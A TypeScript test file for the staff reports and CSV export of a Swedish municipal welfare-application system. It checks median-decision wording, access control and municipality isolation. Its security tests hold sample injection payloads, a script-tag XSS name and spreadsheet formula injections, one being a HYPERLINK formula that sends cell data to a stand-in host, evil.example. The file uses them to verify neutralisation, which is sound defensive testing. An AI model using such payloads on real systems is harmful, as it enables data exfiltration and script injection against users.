import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import * as cheerio from 'cheerio';
import { caseRows, sendApplication } from '../helpers/cases';
import { linkNamed } from '../helpers/fields';
import { chosenOption } from '../helpers/get-form';
import { agentFor, getPage, textOf, type Agent } from '../helpers/http';
import { createApplicant, loginWithSms } from '../helpers/login';
import { insertCase, insertEvent, insertMark } from '../helpers/inbox-rows';
import { ManualClock } from '../helpers/manual-clock';
import { translator } from '../../locales';
import { medianText } from '../../routes/staff-reports';
import { staffAgent } from '../helpers/staff';
import { useTestApp, type TestApp } from '../helpers/test-services';

const DAY = 24 * 60 * 60 * 1000;
const XSS_NAME = '<script>alert(1)</script>';
/** Names a spreadsheet would run as formulas (SEC-24), one per character that starts one. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
  '+46701234567',
  '-2+3',
  '@SUM(1;2)',
  '\tTabb',
  '\rRetur',
];

async function audit(testApp: TestApp, response: { headers: Record<string, unknown> }) {
  return testApp.services.auditLog.ofRequest(String(response.headers['x-request-id']));
}

/** The cells of a CSV file as a spreadsheet reads them (`;`, quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text.charAt(index);
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index++;
    } else cell += char;
  }
  return rows;
}

async function download(agent: Agent, path: string) {
  return agent
    .get(path)
    .buffer(true)
    .parse((response, callback) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => {
        callback(null, Buffer.concat(chunks));
      });
    });
}

describe('reports and the CSV export', () => {
  const clock = new ManualClock('2026-11-24T08:30:00Z');
  const testApp = useTestApp({ clock });

  it('the time to a decision reads as people say it: "samma dag", "1 dag", one decided application in the singular; in Swedish and English', async () => {
    const db = testApp().services.database.db;
    await testApp().services.municipalities.add({
      code: '9903',
      name: 'Tredje kommunen',
      unitName: 'Försörjningsstöd',
      streetAddress: 'Gatan 1',
      postalCode: '123 45',
      city: 'Staden',
      phone: '010-100 00 00',
      email: 'fs@tredje.example',
      website: null,
    });
    const { agent } = await staffAgent(testApp(), [
      { municipalityCode: '9903', role: 'caseworker' },
    ]);
    const decide = async (period: string, days: number, index: number) => {
      const at = Date.parse(`${period}-05T08:00:00Z`) + index;
      const id = await insertCase(db, {
        municipalityCode: '9903',
        period,
        receivedAt: at,
        status: 'beviljad',
      });
      await insertEvent(db, id, at + days * DAY, 'under-handlaggning', 'beviljad');
    };
    // August: one case decided within the hour; September: two, a day each; July: two, both
    // decided the day they came in.
    await decide('2026-08', 0.02, 0);
    await decide('2026-09', 1, 0);
    await decide('2026-09', 1, 1);
    await decide('2026-07', 0, 0);
    await decide('2026-07', 0.01, 1);
    const median = async (period: string) => {
      const { $ } = await getPage(agent, `/handlaggare/rapporter?kommun=9903&period=${period}`);
      return textOf($, 'h3:contains("Tid till beslut") + p, h3:contains("Time to decision") + p');
    };
    assert.equal(
      await median('2026-08'),
      'Den enda beslutade ansökningen fick beslut samma dag som den kom in.',
    );
    assert.equal(
      await median('2026-09'),
      'Hälften av ansökningarna fick beslut inom 1 dag från att de kom in (medianen av 2 beslutade ansökningar).',
    );
    assert.equal(
      await median('2026-07'),
      'Hälften av ansökningarna fick beslut samma dag som de kom in (medianen av 2 beslutade ansökningar).',
    );
    await agent.get('/sprak/en');
    assert.equal(
      await median('2026-08'),
      'The only decided application was decided on the day it was received.',
    );
    assert.equal(
      await median('2026-09'),
      'Half of the applications were decided within 1 day of being received (the median of 2 decided applications).',
    );
  });

  it('a median of a day and a half is written as each language writes numbers: "1,5 dagar", "1.5 days"', () => {
    assert.equal(
      medianText(1.5, 3, translator('sv'), 'sv'),
      'Hälften av ansökningarna fick beslut inom 1,5 dagar från att de kom in (medianen av 3 beslutade ansökningar).',
    );
    assert.equal(
      medianText(1.5, 3, translator('en'), 'en'),
      'Half of the applications were decided within 1.5 days of being received (the median of 3 decided applications).',
    );
  });

  it('opens on the latest month applied for, up to next month: on Monday morning most applications are for the coming month', async () => {
    const db = testApp().services.database.db;
    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9902', role: 'readonly' }]);
    const empty = await getPage(agent, '/handlaggare/rapporter');
    assert.match(textOf(empty.$, 'h1, main'), /november 2026/, 'nothing yet: this month');
    for (const period of ['2026-11', '2026-12', '2027-02']) {
      await insertCase(db, {
        municipalityCode: '9902',
        period,
        receivedAt: Date.parse('2026-11-20T08:00:00Z'),
        status: 'inkommen',
        channel: 'e-tjanst',
      });
    }
    const { $ } = await getPage(agent, '/handlaggare/rapporter');
    assert.equal($('select[name="period"] option[selected]').attr('value'), '2026-12');
  });

  it('a period without applications says so and what a period is, instead of empty tables and "all decided"', async () => {
    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'readonly' }]);
    const { $ } = await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2025-01');
    const main = textOf($, 'main');
    assert.match(
      main,
      /Det finns inga ansökningar för januari 2025\. Perioden är den månad som ansökan gäller, inte månaden den kom in\./,
    );
    assert.equal($('main table').length, 0, 'no tables with only headings');
    assert.doesNotMatch(main, /Alla ansökningar för perioden är beslutade/);
  });

  it('a report per municipality and period: counts per status and channel, median days to decision, the undecided; one audit row', async () => {
    const db = testApp().services.database.db;
    const { agent } = await staffAgent(testApp(), [
      { municipalityCode: '9901', role: 'caseworker' },
      { municipalityCode: '9902', role: 'caseworker' },
    ]);
    const start = Date.parse('2026-10-05T08:00:00Z');
    for (const [index, days] of [2, 3, 7].entries()) {
      const id = await insertCase(db, {
        period: '2026-10',
        receivedAt: start + index,
        status: index === 2 ? 'avslag' : 'beviljad',
        channel: index === 0 ? 'post' : 'e-tjanst',
      });
      await insertEvent(
        db,
        id,
        start + index + days * DAY,
        'under-handlaggning',
        index === 2 ? 'avslag' : 'beviljad',
      );
    }
    const waiting = await insertCase(db, {
      period: '2026-10',
      receivedAt: start + 10,
      status: 'komplettering-begard',
      name: 'Väntande Person',
    });
    await insertCase(db, { period: '2026-10', receivedAt: start, municipalityCode: '9902' });
    await insertCase(db, { period: '2026-09', receivedAt: start });

    const inbox = await getPage(agent, '/handlaggare');
    const first = await getPage(agent, linkNamed(inbox.$, 'Rapporter').attr('href') ?? '');
    assert.equal(first.response.status, 200);
    assert.equal(textOf(first.$, 'h1'), 'Rapporter');
    assert.equal(
      chosenOption(first.$, 'Period'),
      'oktober 2026',
      'the latest month applied for, to begin with',
    );
    const { response, $ } = await getPage(
      agent,
      '/handlaggare/rapporter?kommun=9901&period=2026-10',
    );
    assert.equal(response.status, 200);
    assert.equal(chosenOption($, 'Kommun'), 'Exempelby kommun');
    assert.equal(chosenOption($, 'Period'), 'oktober 2026');
    const main = textOf($, 'main');
    assert.match(main, /Ansökningar för perioden: 4\./);
    const table = (id: string) =>
      $(`table[aria-labelledby="${id}"] tbody tr`)
        .toArray()
        .map((row) => textOf(cheerio.load(row), 'tr').replace(/\s+/g, ' '));
    assert.deepEqual(table('by-status'), ['Avslag 1', 'Beviljad 2', 'Komplettering begärd 1']);
    assert.deepEqual(table('by-channel'), ['E-tjänst 3', 'Post 1']);
    assert.match(
      main,
      /Hälften av ansökningarna fick beslut inom 3 dagar .*medianen av 3 beslutade ansökningar/,
    );
    assert.deepEqual(
      caseRows($).map((row) => [row.href, row.name]),
      [[`/handlaggare/arenden/${waiting}`, 'Väntande Person']],
    );
    assert.equal(
      linkNamed($, 'Visa alla inte beslutade för perioden i ärendelistan').attr('href'),
      '/handlaggare?lista=ej-beslutade&period=2026-10',
    );
    assert.deepEqual(
      (await audit(testApp(), response)).map((event) => [
        event.action,
        event.outcome,
        event.municipality,
      ]),
      [['report', 'ok', '9901']],
    );
  });

  it('SEC-15 another municipality’s report is the same 404 as a missing page, logged as denied; its export has none of their cases', async () => {
    const theirs = await sendApplication(testApp(), { municipalityCode: '9901' });
    const { agent } = await staffAgent(testApp(), [
      { municipalityCode: '9902', role: 'caseworker' },
    ]);
    const refused = await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12');
    const missing = await getPage(agent, '/handlaggare/finns-inte');
    assert.equal(refused.response.status, 404);
    assert.equal(textOf(refused.$, 'main'), textOf(missing.$, 'main'));
    assert.deepEqual(
      (await audit(testApp(), refused.response)).map((e) => [e.action, e.outcome, e.municipality]),
      [['report', 'denied', '9901']],
    );
    for (const odd of ['?kommun=9901x', '?kommun=&period=2026-12', '?kommun=9901&kommun=9902']) {
      const response = await agent.get(`/handlaggare/rapporter${odd}`);
      assert.equal(response.status, 404, odd);
    }
    const csv = await download(agent, '/handlaggare/arenden.csv?lista=ej-beslutade');
    assert.equal(csv.status, 200);
    const text = (csv.body as Buffer).toString('utf8');
    assert.ok(!text.includes(theirs.id));
    assert.ok(!text.includes('Øvergård'));
    assert.ok(parseCsv(text.slice(1)).every((row) => row[10] !== theirs.id));
  });

  it('SEC-24 SEC-20 the export: the list as shown, UTF-8 with BOM, ; and CRLF, quoted, formulas neutralised, scripts as text, one audit row', async () => {
    const db = testApp().services.database.db;
    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9902', role: 'readonly' }]);
    const start = Date.parse('2026-07-01T08:00:00Z');
    const names = [...FORMULAS, XSS_NAME, 'Åsa "Kalle" Öberg; Jr', 'Rad\nbrytning'];
    for (const [index, name] of names.entries()) {
      await insertCase(db, {
        municipalityCode: '9902',
        period: '2026-07',
        receivedAt: start + index * 60_000,
        name,
        personnummer: '198501011234',
        household: 3,
      });
    }
    await insertCase(db, { municipalityCode: '9902', period: '2026-06', receivedAt: start });
    const list = await getPage(agent, '/handlaggare?lista=ej-beslutade&period=2026-07');
    const shown = caseRows(list.$);
    assert.equal(shown.length, names.length);
    assert.equal(list.$('main script').length, 0);
    assert.ok(!list.response.text.includes(XSS_NAME));
    const href = linkNamed(list.$, 'Ladda ner listan som CSV-fil').attr('href') ?? '';
    assert.equal(href, '/handlaggare/arenden.csv?lista=ej-beslutade&period=2026-07');

    const response = await download(agent, href);
    assert.equal(response.status, 200);
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(
      response.headers['content-disposition'],
      'attachment; filename=arenden-ej-beslutade-2026-11-24.csv',
    );
    assert.equal(response.headers['cache-control'], 'no-store');
    assert.equal(response.headers['x-content-type-options'], 'nosniff');
    const bytes = response.body as Buffer;
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
    const text = bytes.toString('utf8').slice(1);
    assert.ok(text.endsWith('\r\n'));
    assert.ok(!/[^\r]\n/.test(text.replace('Rad\nbrytning', '')), 'every row ends in CRLF');
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], [
      'Inkommen',
      'Period',
      'Sökande',
      'Personnummer',
      'Personer',
      'Status',
      'Medsökandes underskrift',
      'Kanal',
      'Handläggare',
      'Varning',
      'Ärende-id',
      'Kvittonummer',
      'Svar på komplettering senast',
    ]);
    const body = rows.slice(1);
    assert.equal(body.length, names.length);
    assert.deepEqual(
      body.map((row) => row[2]),
      names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
      'a formula is shown as text (a leading apostrophe); the rest exactly as written',
    );
    for (const row of body) {
      assert.equal(row.length, 13);
      assert.match(row[11] ?? '', /^EB-TEST-\d+$/, 'the receipt number (as the helper writes it)');
      assert.equal(row[12], '', 'no completion asked for');
      assert.equal(row[1], 'juli 2026');
      assert.equal(row[3], '19850101-XXXX', 'masked as in the list');
      assert.equal(row[4], '3');
      assert.equal(row[5], 'Inkommen');
      assert.equal(row[6], '', 'no co-applicant, no signature waited for');
      assert.ok(!/^[=+\-@\t\r]/.test(row[2] ?? ''), `neutralised: ${row[2] ?? ''}`);
    }
    assert.deepEqual(
      body.map((row) => `/handlaggare/arenden/${row[10] ?? ''}`),
      shown.map((row) => row.href),
      'the same cases in the same order as the list',
    );
    // The raw file: the XSS payload is plain text in a text/csv file, and a quote is doubled.
    assert.ok(bytes.toString('utf8').includes(`;${XSS_NAME};`));
    assert.ok(bytes.toString('utf8').includes('"Åsa ""Kalle"" Öberg; Jr"'));
    assert.ok(
      bytes.toString('utf8').includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klicka"")"`),
    );
    assert.deepEqual(
      (await audit(testApp(), response)).map((e) => [e.action, e.outcome, e.role, e.municipality]),
      [['export', 'ok', 'readonly', '9902']],
    );
  });

  it("the export's Varning column holds every warning the list shows: a marked wrong answer too", async () => {
    const db = testApp().services.database.db;
    const { agent, staff } = await staffAgent(testApp(), [
      { municipalityCode: '9902', role: 'caseworker' },
    ]);
    const id = await insertCase(db, {
      municipalityCode: '9902',
      period: '2026-05',
      receivedAt: Date.parse('2026-05-02T08:00:00Z'),
      status: 'under-handlaggning',
    });
    await insertMark(db, id, staff.account.id);
    const response = await download(
      agent,
      '/handlaggare/arenden.csv?lista=ej-beslutade&period=2026-05',
    );
    const rows = parseCsv((response.body as Buffer).toString('utf8').slice(1));
    const row = rows.find((one) => one[10] === id);
    assert.equal(row?.[9], 'Fel markerade');
  });

  it('SEC-16 the read-only role may read reports and export (nothing there changes anything: no form posts)', async () => {
    const { agent } = await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'readonly' }]);
    const report = await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12');
    assert.equal(report.response.status, 200);
    assert.equal(report.$('main form[method="post"]').length, 0);
    const csv = await download(agent, '/handlaggare/arenden.csv');
    assert.equal(csv.status, 200);
    const posted = await agent.post('/handlaggare/rapporter').type('form').send({});
    assert.ok([403, 404].includes(posted.status), `a POST is refused (${posted.status})`);
  });

  it('SEC-20 a script in a sent applicant’s name is text in the list, the name search, the report and the CSV', async () => {
    const sent = await sendApplication(testApp(), {
      changes: { 'om-dig': { firstName: XSS_NAME } },
    });
    const { agent } = await staffAgent(testApp(), [
      { municipalityCode: '9901', role: 'caseworker' },
    ]);
    const { $ } = await getPage(agent, '/handlaggare');
    const searched = await agent
      .post('/handlaggare/arenden/sok')
      .redirects(1)
      .type('form')
      .send({ sokord: 'script alert', _csrf: String($('input[name=_csrf]').first().val()) });
    const pages = [
      { response: searched, $: cheerio.load(searched.text) },
      await getPage(agent, '/handlaggare?lista=ej-beslutade&period=2026-12'),
      await getPage(agent, '/handlaggare/rapporter?kommun=9901&period=2026-12'),
    ];
    for (const page of pages) {
      assert.equal(page.response.status, 200);
      assert.equal(page.$('main script').length, 0);
      assert.ok(!page.response.text.includes(XSS_NAME));
      const row = caseRows(page.$).find((one) => one.href.endsWith(sent.id));
      assert.equal(row?.name, `${XSS_NAME} Øvergård`);
    }
    const csv = await download(agent, '/handlaggare/arenden.csv?lista=ej-beslutade&period=2026-12');
    const rows = parseCsv((csv.body as Buffer).toString('utf8').slice(1));
    const sentRow = rows.find((row) => row[10] === sent.id);
    assert.equal(sentRow?.[2], `${XSS_NAME} Øvergård`);
    // The medsökande has no account and has not signed on paper yet: the file says so.
    assert.equal(sentRow[6], 'Saknas');
  });

  it('SEC-18 the report, the export and the filtered list × every role give the expected status', async () => {
    const applicant = await createApplicant(testApp().services);
    const applicantAgent = agentFor(testApp().app);
    await loginWithSms(applicantAgent, testApp().services, applicant);
    const callers: [string, Agent][] = [
      ['anonymous', agentFor(testApp().app)],
      ['applicant', applicantAgent],
      [
        'readonly',
        (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'readonly' }])).agent,
      ],
      [
        'caseworker',
        (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'caseworker' }])).agent,
      ],
      ['admin', (await staffAgent(testApp(), [{ municipalityCode: '9901', role: 'admin' }])).agent],
      [
        'otherMunicipality',
        (await staffAgent(testApp(), [{ municipalityCode: '9902', role: 'caseworker' }])).agent,
      ],
    ];
    const routes: [string, Record<string, number>][] = [
      [
        '/handlaggare/rapporter?kommun=9901&period=2026-12',
        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 404 },
      ],
      [
        '/handlaggare/arenden.csv?lista=fel&sortering=period',
        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
      ],
      [
        '/handlaggare?lista=fel&period=2026-12&handlaggare=ingen&kanal=post&sortering=nyast',
        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
      ],
      // Odd addresses are the plain list, never an error.
      [
        '/handlaggare?lista[]=x&period=2026-13&handlaggare=x&efter=1.2&sortering[a]=b',
        { readonly: 200, caseworker: 200, admin: 200, otherMunicipality: 200 },
      ],
    ];
    for (const [path, expected] of routes) {
      for (const [role, agent] of callers) {
        const response = await agent.get(path);
        const status = expected[role];
        if (status === undefined) {
          assert.equal(response.status, 303, `${path} as ${role}`);
          assert.match(
            response.headers.location ?? '',
            /^\/personal\/logga-in(\?|$)/,
            `${path} as ${role}`,
          );
        } else {
          assert.equal(response.status, status, `${path} as ${role}`);
        }
      }
    }
  });
});
